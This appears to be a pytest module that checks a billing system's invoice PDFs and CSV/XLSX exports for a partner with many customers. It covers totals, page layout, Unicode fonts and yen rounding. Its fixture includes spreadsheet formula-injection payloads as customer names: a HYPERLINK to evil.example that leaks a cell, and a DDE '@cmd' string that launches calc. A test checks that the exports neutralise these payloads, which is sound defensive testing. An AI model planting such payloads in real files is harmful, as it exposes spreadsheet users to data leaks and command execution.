"""Review of the documents and export files as a partner (an MSP that rebills its customers) reads them.

The worked examples are replayed through the command line, then a partner with many customers, Unicode names
(accents, CJK, RTL), a customer named like a spreadsheet formula, payments, credit notes, a negative true-up and
rebilling on is billed; the PDFs are rendered and read back (text, word positions, embedded fonts) and the CSV
and XLSX exports are opened as a spreadsheet would open them.

Tests marked xfail(strict=True) are findings: they pass once the bug is fixed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
from openpyxl import load_workbook

try:
    import weasyprint  # noqa: F401
except (ImportError, OSError) as exc:  # pragma: no cover - depends on the machine
    pytest.skip(f"WeasyPrint cannot load here ({exc})", allow_module_level=True)
pypdf = pytest.importorskip("pypdf")
TTFont = pytest.importorskip("fontTools.ttLib").TTFont

from billing.core.actor import Actor  # noqa: E402
from conftest import run_cli  # noqa: E402
from invoicing.choices import InvoiceState, LineType  # noqa: E402
from invoicing.models import CompanyProfile, Invoice, InvoiceKind  # noqa: E402
from invoicing.pdf import render_invoice_pdf  # noqa: E402
from invoicing.rebilling.models import CustomerBillingProfile, CustomerInvoice, RebillingProfile  # noqa: E402
from invoicing.rebilling.pdf import render_customer_invoice_pdf  # noqa: E402
from invoicing.services import credit_note_issue  # noqa: E402
from partners.models import Customer, Partner  # noqa: E402
from tests.examples import as_multiset, expected_rows, export, replay  # noqa: E402

pytestmark = pytest.mark.django_db

D = Decimal
ACTOR = Actor(label="test_review_documents")
A4_WIDTH = 595.28  # points
RIGHT_EDGE = A4_WIDTH - 16 / 25.4 * 72  # the page's right margin is 16 mm (invoice.css)
pytestmark = [pytestmark, pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils reads PDFs")]
needs_poppler = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext reads word positions")
# the fonts invoice.css falls back to for what DejaVu Sans cannot draw (docs/operations.md, "PDFs (WeasyPrint)")
FALLBACK_FONTS = ("Noto Sans CJK JP", "Noto Sans Thai", "Noto Sans Devanagari", "Noto Color Emoji")


def missing_fonts() -> list[str]:
    """The fallback font families fontconfig does not know here (all of them without fc-list)."""
    if shutil.which("fc-list") is None:
        return list(FALLBACK_FONTS)
    listed = subprocess.run(["fc-list", ":", "family"], capture_output=True, text=True, check=False).stdout
    installed = {name.strip() for line in listed.splitlines() for name in line.split(",")}
    return [family for family in FALLBACK_FONTS if family not in installed]


needs_fonts = pytest.mark.skipif(
    bool(missing_fonts()), reason=f"no font for CJK, Thai, Devanagari or emoji here (missing: "
    f"{', '.join(missing_fonts())}): apt-get install fonts-noto-core fonts-noto-cjk fonts-noto-color-emoji, as .ci/run "
    "does")


# --- helpers ------------------------------------------------------------------------------------------------------
def cli_ok(*args: str) -> str:
    result = run_cli(*args)
    assert result.status == 0, f"{args}: {result.err}"
    return result.out


def write(tmp_path: Path, name: str, rows: list[list[str]]) -> Path:
    path = tmp_path / name
    with path.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(rows)
    return path


def billed(through: str) -> str:
    with time_machine.travel(datetime.fromisoformat(through).replace(hour=6, tzinfo=UTC), tick=False):
        return cli_ok("run_billing", "--through", through)


def pdf_text(data: bytes) -> str:
    """The PDF read back as a partner's tools read it (pdftotext), whitespace collapsed."""
    text = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout
    return re.sub(r"\s+", " ", text.decode("utf-8"))


def pdf_words(data: bytes, tmp_path: Path) -> list[dict]:
    """Every word of the PDF with its page and box (pdftotext -bbox), in points."""
    path = tmp_path / "doc.pdf"
    path.write_bytes(data)
    html = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True, check=True, text=True).stdout
    words, page = [], 0
    for line in html.splitlines():
        if "<page " in line:
            page += 1
        m = re.search(r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">(.*)</word>', line)
        if m:
            words.append({"page": page, "x0": float(m[1]), "y0": float(m[2]), "x1": float(m[3]), "y1": float(m[4]),
                          "text": m[5]})
    return words


def drawable_characters(data: bytes) -> set[int]:
    """The code points some font embedded in the PDF has a glyph for (what prints as itself, not a box)."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    covered: set[int] = set()
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            for descendant in font.get("/DescendantFonts", []):
                descriptor = descendant.get_object()["/FontDescriptor"]
                for key in ("/FontFile2", "/FontFile3", "/FontFile"):
                    if key in descriptor:
                        covered |= set(TTFont(io.BytesIO(descriptor[key].get_data())).getBestCmap() or {})
    return covered


def totals_add_up(invoice: Invoice) -> None:
    lines = list(invoice.lines.all())
    charges = sum((line.amount for line in lines if line.line_type != LineType.TAX), D(0))
    taxes = sum((line.amount for line in lines if line.line_type == LineType.TAX), D(0))
    assert (charges, taxes, charges + taxes) == (invoice.subtotal, invoice.tax_amount, invoice.total), invoice.number
    for child in invoice.children.all():
        assert sum((line.amount for line in lines if line.child_id == child.pk), D(0)) == child.subtotal
    if invoice.kind == InvoiceKind.CI:
        assert invoice.amount_due == (invoice.previous_balance - invoice.payments_and_credits
                                      + invoice.other_invoices + invoice.subtotal + invoice.tax_amount), invoice.number


# --- fixtures -----------------------------------------------------------------------------------------------------
LONG_NAME = "Verylongcustomernamewithoutanyspacesthatoverflowsthetablecellofthepdfdocument Holdings Limited"
NAMES = [
    ("cafe", "Café Müller & Söhne GmbH"),
    ("sakura", "株式会社さくら商事"),
    ("riyadh", "شركة الرياض للتقنية"),
    ("alpha", "חברת אלפא בע״מ"),
    ("evil", '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'),
    ("plus", "+SUM(1,2)"),
    ("at", "@cmd|' /C calc'!A0"),
    ("long", LONG_NAME),
] + [(f"c{i:03d}", f"Customer number {i:03d} Ltd") for i in range(1, 31)]


@pytest.fixture
def globex(tmp_path):
    """A EUR partner (21% tax) with 38 customers, each with its own per_host service (a child invoice each), a
    partner-level licenses service (a line per customer), a non-taxable flat fee, one-time charges, rebilling on
    with Customer Billing; billed for March and April 2026."""
    with time_machine.travel(datetime(2026, 3, 1, 6, tzinfo=UTC), tick=False):
        profile = CompanyProfile.current()
        profile.legal_name, profile.address = "Nørdbridge Billing ApS", "Strøget 1\n1160 København K"
        profile.tax_id = "DK1"
        profile.save()
        cli_ok("import_csv", "partners", str(write(tmp_path, "partners.csv", [
            ["slug", "name", "currency", "tax_rate", "payment_terms_days", "billing_address", "tax_id"],
            ["globex", "Globex — 株式会社グローベックス", "EUR", "21", "30", "Rue de l'Église 12\n75001 Paris", "FR1"],
        ])))
        cli_ok("import_csv", "customers", str(write(tmp_path, "customers.csv", [
            ["partner", "slug", "name", "host_limit", "payment_terms_days"],
            *[["globex", slug, name, str(3 + i % 7), "14" if i % 2 else ""] for i, (slug, name) in enumerate(NAMES)],
        ])))
        cli_ok("import_csv", "services", str(write(tmp_path, "services.csv", [
            ["partner", "customer", "code", "name", "method", "unit_price", "storage_per_license_gb", "start_date",
             "taxable"],
            *[["globex", slug, f"host-{slug}", "Hébergement VM", "per_host", "12.50", "", "2026-03-01", ""]
              for slug, _ in NAMES],
            ["globex", "", "mail", "Licences messagerie", "licenses", "3.10", "50", "2026-03-01", ""],
            ["globex", "", "portal", "Portail client", "flat", "99.99", "", "2026-03-01", "false"],
        ])))
        cli_ok("import_csv", "tenant-usage", str(write(tmp_path, "usage.csv", [
            ["partner", "customer", "date", "users_count", "storage_bytes", "messages_count"],
            *[["globex", slug, "2026-03-01", str(5 + i), "1000000000", ""] for i, (slug, _) in enumerate(NAMES)],
        ])))
        cli_ok("import_csv", "resale-prices", str(write(tmp_path, "prices.csv", [
            ["partner", "customer", "service", "unit_price", "effective_from"],
            ["globex", "", "mail", "4.00", "2026-03-01"],
            *[["globex", "", f"host-{slug}", "15.00", "2026-03-01"] for slug, _ in NAMES],
        ])))
    partner = Partner.objects.get(slug="globex")
    RebillingProfile.objects.create(partner=partner, enabled=True, number_prefix="GLX", legal_name="Globex SARL",
                                    address="Rue de l'Église 12\n75001 Paris", tax_id="FR1", payment_terms_days=30,
                                    customer_billing=True)
    for slug in ("riyadh", "evil"):
        CustomerBillingProfile.objects.create(customer=Customer.objects.get(partner=partner, slug=slug),
                                              tax_rate=D("20"), address="Adresse\nالرياض 12345")
    with time_machine.travel(datetime(2026, 3, 25, 6, tzinfo=UTC), tick=False):
        cli_ok("import_csv", "one-time-charges", str(write(tmp_path, "charges.csv", [
            ["partner", "customer", "description", "quantity", "unit_price", "date", "taxable"],
            ["globex", "riyadh", "Routeur Wi‑Fi 6", "2", "389.00", "2026-03-15", "true"],
            ["globex", "", "Formation (non taxable)", "1", "450.00", "2026-03-20", "false"],
        ])))
    billed("2026-04-01")
    return partner


# --- the worked examples, end to end through the command line -----------------------------------------------------
@pytest.mark.parametrize("example", ["seat-days-basic", "per-host-and-licenses"])
def test_worked_examples_replayed_match_their_expected_exports(data_dir, example):
    folder = data_dir / example
    replay(folder)
    columns = ["kind", "issue_date", "due_date", "partner", "customer", "service", "line_type", "period", "quantity",
               "unit_price", "amount", "currency"]
    assert as_multiset(export("invoice-lines"), columns) == as_multiset(
        expected_rows(folder, "expected-invoice-lines.csv"), columns)
    expected = expected_rows(folder, "expected-statements.csv")
    for period in sorted({row["period"] for row in expected}):
        assert as_multiset(export("statements", "--period", period), expected[0].keys()) == as_multiset(
            [row for row in expected if row["period"] == period], expected[0].keys())
    for invoice in Invoice.objects.filter(state=InvoiceState.ISSUED):
        totals_add_up(invoice)
    steps = json.loads((folder / "steps.json").read_text())
    last = [step["run_billing"] for step in steps if "run_billing" in step][-1]
    assert "nothing to bill" in cli_ok("run_billing", "--through", last)


def test_seat_days_ci_pdf_shows_the_ledger_that_adds_up(data_dir):
    """CI-0003 of seat-days-basic: previous balance 154.00, new charges 191.94, taxes 19.19, amount due 365.13."""
    replay(data_dir / "seat-days-basic")
    invoice = Invoice.objects.get(number="CI-0003")
    text = pdf_text(render_invoice_pdf(invoice))
    for shown in ["USD 154.00", "USD 191.94", "USD 19.19", "USD 365.13", "41.94", "1.6774", "Tax 10%",
                  "1 Jun 2026", "1 Jul 2026", "Page 1 of"]:
        assert shown in text


def test_the_footer_of_a_ci_without_a_company_profile_starts_with_the_document(data_dir):
    """No company profile filled in: the running footer names the document, with no stray separator before it."""
    replay(data_dir / "seat-days-basic")
    text = pdf_text(render_invoice_pdf(Invoice.objects.get(number="CI-0003")))
    assert "Consolidated invoice CI-0003 · 1 Jun 2026" in text
    assert "· Consolidated invoice" not in text


# --- the big partner: totals, ledger, page breaks, escaping ---------------------------------------------------------
def test_every_issued_document_adds_up_to_the_cent(globex):
    with time_machine.travel(datetime(2026, 4, 20, 9, tzinfo=UTC), tick=False):
        credit_note_issue(invoice=Invoice.objects.get(kind=InvoiceKind.INV, total=D("450.00")), actor=ACTOR)
    billed("2026-05-01")
    invoices = Invoice.objects.filter(state=InvoiceState.ISSUED, partner=globex)
    assert invoices.filter(kind=InvoiceKind.CN).count() == 1
    for invoice in invoices:
        totals_add_up(invoice)
    may = Invoice.objects.get(partner=globex, kind=InvoiceKind.CI, issue_date="2026-05-01")
    april = Invoice.objects.get(partner=globex, kind=InvoiceKind.CI, issue_date="2026-04-01")
    assert may.previous_balance == april.amount_due
    assert may.payments_and_credits == D("450.00")
    rows = [r for r in export("invoice-lines", "--partner", "globex") if r["invoice_number"] == may.number]
    assert sum(D(r["amount"]) for r in rows) == may.total


@needs_poppler
def test_a_long_ci_repeats_its_column_headings_and_keeps_its_rows_on_the_page(globex, tmp_path):
    invoice = Invoice.objects.get(partner=globex, kind=InvoiceKind.CI, issue_date="2026-04-01")
    data = render_invoice_pdf(invoice)
    words = pdf_words(data, tmp_path)
    pages = max(w["page"] for w in words)
    assert pages >= 3
    text = " ".join(w["text"] for w in words)
    assert f"Page {pages} of {pages}" in text
    charge_pages = {w["page"] for w in words if w["text"] == "Hébergement"}
    heading_pages = {w["page"] for w in words if w["text"] == "DESCRIPTION"}
    assert charge_pages <= heading_pages  # the column headings on every page with charges
    assert all(w["x1"] <= RIGHT_EDGE + 1 for w in words if w["text"] not in (LONG_NAME.split()[0],))


def test_exports_neutralise_a_customer_named_like_a_formula(globex, tmp_path):
    out = tmp_path / "statements.csv"
    cli_ok("export_report", "statements", "--period", "2026-03", "--partner", "globex", "--output", str(out))
    names = {row["customer"]: row["customer_name"] for row in csv.DictReader(out.open(encoding="utf-8-sig"))}
    assert names["evil"] == "'" + dict(NAMES)["evil"]
    assert names["plus"] == "'+SUM(1,2)" and names["at"].startswith("'@")
    xlsx = tmp_path / "statements.xlsx"
    cli_ok("export_report", "statements", "--period", "2026-03", "--partner", "globex", "--format", "xlsx",
           "--output", str(xlsx))
    sheet = load_workbook(xlsx).active
    header = [c.value for c in next(sheet.iter_rows())]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in cells for c in row.values())
    evil = next(row for row in cells if row["customer"].value == "evil")
    assert evil["customer_name"].value.startswith("'=")
    assert isinstance(evil["licenses"].value, int | float | Decimal)


def test_xlsx_invoice_lines_amounts_are_numbers(globex, tmp_path):
    xlsx = tmp_path / "lines.xlsx"
    cli_ok("export_report", "invoice-lines", "--partner", "globex", "--format", "xlsx", "--output", str(xlsx))
    sheet = load_workbook(xlsx).active
    header = [c.value for c in next(sheet.iter_rows())]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert rows and all(row["amount"].data_type == "n" for row in rows)
    assert all(row["unit_price"].data_type == "n" for row in rows if row["line_type"].value != "true_up")
    total = sum(D(str(row["amount"].value)) for row in rows)
    assert total == sum(i.total for i in Invoice.objects.filter(partner=globex, state=InvoiceState.ISSUED))


def test_credit_note_pdf_shows_negative_amounts_with_their_sign(globex):
    april = Invoice.objects.get(partner=globex, kind=InvoiceKind.CI, issue_date="2026-04-01")
    chosen = [line for line in april.lines.all() if line.service and line.service.code in ("portal", "host-riyadh")]
    with time_machine.travel(datetime(2026, 4, 20, 9, tzinfo=UTC), tick=False):
        note = credit_note_issue(invoice=april, lines=chosen, actor=ACTOR)
    assert note.total == D("-99.99") - D("62.50") - D("13.13")  # 5 hosts x 12.50; 21% of 62.50 = 13.125 -> 13.13
    text = pdf_text(render_invoice_pdf(note))
    assert "-99.99" in text and "-62.50" in text and "-13.13" in text and "-€175.62" in text


def test_customer_invoice_account_summary_adds_up(globex):
    invoice = CustomerInvoice.objects.get(customer__slug="riyadh", issue_date="2026-04-01", kind="invoice")
    account = invoice.account
    assert (D(account["previous_balance"]) + invoice.subtotal + invoice.tax_amount + D(account["credits"])
            + D(account["payments"])) == D(account["amount_due"])


# --- findings -------------------------------------------------------------------------------------------------------
@needs_fonts
def test_cjk_names_are_drawn_not_boxes(globex):
    invoice = Invoice.objects.get(partner=globex, kind=InvoiceKind.CI, issue_date="2026-04-01")
    data = render_invoice_pdf(invoice)
    assert "株式会社グローベックス" in pdf_text(data)  # the text layer is right...
    drawn = drawable_characters(data)
    missing = {ch for ch in "株式会社グローベックスさくら商事" if ord(ch) not in drawn}
    assert not missing, f"no glyph in any embedded font for {''.join(sorted(missing))}"  # ...the page shows boxes


@needs_poppler
def test_long_customer_name_stays_in_its_column_of_the_child_invoices_table(globex, tmp_path):
    invoice = Invoice.objects.get(partner=globex, kind=InvoiceKind.CI, issue_date="2026-04-01")
    words = pdf_words(render_invoice_pdf(invoice), tmp_path)
    heading = next(w for w in words if w["text"] == "CHILD")
    due_column = next(w for w in words
                      if w["text"] == "DUE" and w["page"] == heading["page"] and w["y0"] > heading["y0"])
    name = [w for w in words
            if w["text"].startswith("Verylong") and w["page"] in (heading["page"], heading["page"] + 1)]
    child_table_row = min(name, key=lambda w: (w["page"], w["y0"]))  # the first occurrence: the child-invoices row
    assert child_table_row["x1"] <= due_column["x0"], child_table_row


@needs_poppler
def test_large_amounts_stay_inside_the_box_and_the_page(tmp_path):
    with time_machine.travel(datetime(2026, 3, 1, 6, tzinfo=UTC), tick=False):
        cli_ok("import_csv", "partners", str(write(tmp_path, "p.csv", [
            ["slug", "name", "currency", "tax_rate", "payment_terms_days"],
            ["bigusd", "Big USD MSP", "USD", "10", "30"]])))
        cli_ok("import_csv", "customers", str(write(tmp_path, "c.csv", [
            ["partner", "slug", "name", "host_limit"], ["bigusd", "dc", "Data Centre", "99"]])))
        cli_ok("import_csv", "services", str(write(tmp_path, "s.csv", [
            ["partner", "customer", "code", "name", "method", "unit_price", "start_date"],
            ["bigusd", "dc", "vm", "VM", "per_host", "6000.00", "2026-03-01"]])))
    billed("2026-04-01")
    invoice = Invoice.objects.get(kind=InvoiceKind.CI, issue_date="2026-04-01", partner__slug="bigusd")
    assert invoice.amount_due == D("1306800.00")  # 2 months x (99 hosts x 6,000.00 + 10% tax)
    words = pdf_words(render_invoice_pdf(invoice), tmp_path)
    first = [w for w in words if w["page"] == 1]
    label = next(w for w in first if w["text"] == "AMOUNT")  # the box's label: the box starts 3.5 mm to its left
    box_right = label["x0"] - 3.5 / 25.4 * 72 + (A4_WIDTH - 2 * 16 / 25.4 * 72) * 0.30
    big = [w for w in first if w["text"] == "1,306,800.00" and w["y0"] < label["y0"] + 40]
    assert big and big[0]["x1"] <= box_right, (big, box_right)
    assert all(w["x1"] <= RIGHT_EDGE + 0.5 for w in words), [w for w in words if w["x1"] > RIGHT_EDGE + 0.5]


def test_jpy_amounts_are_exported_in_whole_yen(tmp_path):
    with time_machine.travel(datetime(2026, 3, 1, 6, tzinfo=UTC), tick=False):
        cli_ok("import_csv", "partners", str(write(tmp_path, "p.csv", [
            ["slug", "name", "currency", "tax_rate", "payment_terms_days"], ["yen", "Yen MSP", "JPY", "10", "30"]])))
        cli_ok("import_csv", "customers", str(write(tmp_path, "c.csv", [
            ["partner", "slug", "name", "host_limit"], ["yen", "bigco", "Big Co", "3"]])))
        cli_ok("import_csv", "services", str(write(tmp_path, "s.csv", [
            ["partner", "customer", "code", "name", "method", "unit_price", "start_date"],
            ["yen", "bigco", "vm", "VM", "per_host", "1234", "2026-03-01"]])))
    out = billed("2026-03-01")
    rows = export("invoice-lines", "--partner", "yen")
    assert [r["amount"] for r in rows] == ["3702", "370"]  # 3 x 1,234 = 3,702; 10% = 370.2 -> 370
    assert "total 4072 JPY" in out
    xlsx = tmp_path / "yen.xlsx"
    cli_ok("export_report", "invoice-lines", "--partner", "yen", "--format", "xlsx", "--output", str(xlsx))
    sheet = load_workbook(xlsx).active
    header = [c.value for c in next(sheet.iter_rows())]
    amount = next(sheet.iter_rows(min_row=2))[header.index("amount")]
    assert amount.number_format == "0"


@pytest.mark.xfail(strict=True, reason="CSV exports are UTF-8 without a byte order mark: Excel opens them as "
                   "Windows-1252 and shows Société as SociÃ©tÃ© and CJK names as mojibake")
def test_csv_export_file_opens_in_excel_with_its_accents(globex, tmp_path):
    out = tmp_path / "statements.csv"
    cli_ok("export_report", "statements", "--period", "2026-03", "--partner", "globex", "--output", str(out))
    raw = out.read_bytes()
    assert "Café Müller".encode() in raw
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:40]


# --- the fixes of the findings above, a step further ----------------------------------------------------------------
def embedded_fonts(data: bytes) -> dict[str, set[int]]:
    """Every font embedded in the PDF (its name without the subset tag) with the code points it draws."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    fonts: dict[str, set[int]] = {}
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            name = str(font["/BaseFont"]).split("+", 1)[-1]
            for descendant in font.get("/DescendantFonts", []):
                descriptor = descendant.get_object()["/FontDescriptor"]
                for key in ("/FontFile2", "/FontFile3", "/FontFile"):
                    if key in descriptor:
                        cmap = TTFont(io.BytesIO(descriptor[key].get_data())).getBestCmap() or {}
                        fonts.setdefault(name, set()).update(cmap)
    return fonts


@needs_fonts
def test_thai_devanagari_hangul_and_emoji_names_are_drawn_and_digits_stay_in_dejavu(tmp_path, caplog):
    """Every script of a name is drawn by some font, and figures are DejaVu Sans's: an emoji font named in the CSS
    would draw the digits and spaces of every amount (WeasyPrint issues 1354, 2291)."""
    names = {"thai": "บริษัท สยาม จำกัด", "hindi": "भारत टेक प्राइवेट लिमिटेड", "korea": "주식회사 한빛",
             "party": "Party Co 🎉😀"}
    with time_machine.travel(datetime(2026, 3, 1, 6, tzinfo=UTC), tick=False):
        cli_ok("import_csv", "partners", str(write(tmp_path, "p.csv", [
            ["slug", "name", "currency", "tax_rate", "payment_terms_days"],
            ["asia", "Asia MSP 🌏", "USD", "10", "30"]])))
        cli_ok("import_csv", "customers", str(write(tmp_path, "c.csv", [
            ["partner", "slug", "name", "host_limit"], *[["asia", slug, name, "3"] for slug, name in names.items()]])))
        cli_ok("import_csv", "services", str(write(tmp_path, "s.csv", [
            ["partner", "customer", "code", "name", "method", "unit_price", "start_date"],
            *[["asia", slug, f"vm-{slug}", "VM", "per_host", "1234.56", "2026-03-01"] for slug in names]])))
    billed("2026-03-01")
    with caplog.at_level("WARNING", logger="weasyprint"):
        data = render_invoice_pdf(Invoice.objects.get(kind=InvoiceKind.CI, partner__slug="asia"))
    # WeasyPrint says so when it draws a box (.notdef) for a character no font has
    assert not [r.getMessage() for r in caplog.records if ".notdef" in r.getMessage()]
    text = pdf_text(data)  # Thai and Devanagari are shaped (conjuncts, vowel signs): their text layer is not exact
    assert names["korea"] in text and names["party"] in text
    fonts = embedded_fonts(data)
    assert {"Noto-Sans-Thai", "Noto-Sans-Devanagari"} <= set(fonts), fonts.keys()
    drawn = set().union(*fonts.values())
    missing = {ch for ch in names["korea"] + names["party"] + "🌏" if not ch.isspace() and ord(ch) not in drawn}
    assert not missing, f"no glyph in any embedded font for {''.join(sorted(missing))}"
    digits = {ord(ch) for ch in "0123456789"}
    assert {name for name, points in fonts.items() if points & digits} <= {"DejaVu-Sans", "DejaVu-Sans-Bold",
                                                                             "DejaVu-Sans-Oblique"}, fonts.keys()


def test_a_latin_document_embeds_dejavu_sans_only(data_dir):
    """The fallback fonts cost nothing where they are not needed: a Latin-only PDF embeds DejaVu Sans alone."""
    replay(data_dir / "seat-days-basic")
    data = render_invoice_pdf(Invoice.objects.get(number="CI-0003"))
    assert set(embedded_fonts(data)) <= {"DejaVu-Sans", "DejaVu-Sans-Bold", "DejaVu-Sans-Oblique"}
    assert len(data) < 60_000


@needs_poppler
def test_a_customer_invoice_with_large_amounts_stays_inside_the_box_and_the_page(tmp_path):
    """The customer invoice shares invoice.css and the totals rows: its amount-due box and totals too; and its
    customer, named in one long word, stays in the Billed to column."""
    with time_machine.travel(datetime(2026, 3, 1, 6, tzinfo=UTC), tick=False):
        cli_ok("import_csv", "partners", str(write(tmp_path, "p.csv", [
            ["slug", "name", "currency", "tax_rate", "payment_terms_days"],
            ["bigusd", "Big USD MSP", "USD", "10", "30"]])))
        cli_ok("import_csv", "customers", str(write(tmp_path, "c.csv", [
            ["partner", "slug", "name", "host_limit"], ["bigusd", "dc", LONG_NAME, "99"]])))
        cli_ok("import_csv", "services", str(write(tmp_path, "s.csv", [
            ["partner", "customer", "code", "name", "method", "unit_price", "start_date"],
            ["bigusd", "dc", "vm", "VM", "per_host", "6000.00", "2026-03-01"]])))
        cli_ok("import_csv", "resale-prices", str(write(tmp_path, "r.csv", [
            ["partner", "customer", "service", "unit_price", "effective_from"],
            ["bigusd", "dc", "vm", "8888.88", "2026-03-01"]])))
    RebillingProfile.objects.create(partner=Partner.objects.get(slug="bigusd"), enabled=True, number_prefix="BIG",
                                    legal_name="Big USD MSP Inc.", payment_terms_days=30, customer_billing=True)
    billed("2026-04-01")
    invoice = CustomerInvoice.objects.get(customer__slug="dc", issue_date="2026-04-01", kind="invoice")
    due = D(invoice.account["amount_due"])
    assert due > D("1000000")  # March's 99 x 8,888.88 and its tax unpaid, and April's
    words = pdf_words(render_customer_invoice_pdf(invoice), tmp_path)
    first = [w for w in words if w["page"] == 1]
    label = next(w for w in first if w["text"] == "AMOUNT")
    box_right = label["x0"] - 3.5 / 25.4 * 72 + (A4_WIDTH - 2 * 16 / 25.4 * 72) * 0.30
    shown = f"{due:,.2f}"
    big = [w for w in first if w["text"] == shown and w["y0"] < label["y0"] + 40]
    assert big and big[0]["x1"] <= box_right, (big, box_right)
    assert all(w["x1"] <= RIGHT_EDGE + 0.5 for w in words), [w for w in words if w["x1"] > RIGHT_EDGE + 0.5]
    assert any(w["text"] == f"{invoice.total:,.2f}" for w in words)  # the Total row, on the page
    meta = next(w for w in first if w["text"] == "Invoice")  # "Invoice number": the details column starts there
    billed_to = [w for w in first if w["x0"] < meta["x0"] and w["y0"] < label["y0"] + 60]
    assert any(w["text"].startswith("Verylong") for w in billed_to)
    assert all(w["x1"] <= meta["x0"] for w in billed_to), [w for w in billed_to if w["x1"] > meta["x0"]]


def test_a_jpy_partner_exports_whole_yen_and_its_tax_rate_as_a_percentage(data_dir, tmp_path):
    """seat-days-basic in JPY (prices x 100): every amount in whole yen, the periods' subtotals too; the tax line's
    unit price is its rate, 10.00, in every currency (billing-rules 2, 4.3, 10.2, 10.4)."""
    folder = tmp_path / "seat-days-jpy"
    shutil.copytree(data_dir / "seat-days-basic", folder)
    partners = folder / "partners.csv"
    partners.write_text(partners.read_text().replace(",USD,", ",JPY,"))
    services = folder / "services.csv"
    services.write_text(services.read_text().replace(",20.00,25.00,", ",2000,2500,").replace(",30.00,", ",3000,"))
    replay(folder)
    rows = export("invoice-lines")
    assert rows and {r["currency"] for r in rows} == {"JPY"}
    assert all(re.fullmatch(r"-?\d+", r["amount"]) for r in rows), [r["amount"] for r in rows]
    assert {r["unit_price"] for r in rows if r["line_type"] == "tax"} == {"10.00"}
    assert {r["unit_price"] for r in rows if r["line_type"] == "usage"} == {"2000"}
    assert "8000" in [r["amount"] for r in rows]  # April: 4 minimum seat-months x 2,000 (80.00 in USD)
    assert [r["subtotal"] for r in export("periods")] == ["8000", "16194"]  # 12,000 + 1.6774... x 2,500 = 4,193.5
    xlsx = tmp_path / "jpy.xlsx"
    cli_ok("export_report", "invoice-lines", "--format", "xlsx", "--output", str(xlsx))
    sheet = load_workbook(xlsx).active
    header = [c.value for c in next(sheet.iter_rows())]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert {row["amount"].number_format for row in cells} == {"0"}
    assert {row["unit_price"].number_format for row in cells if row["line_type"].value == "tax"} == {"0.00"}
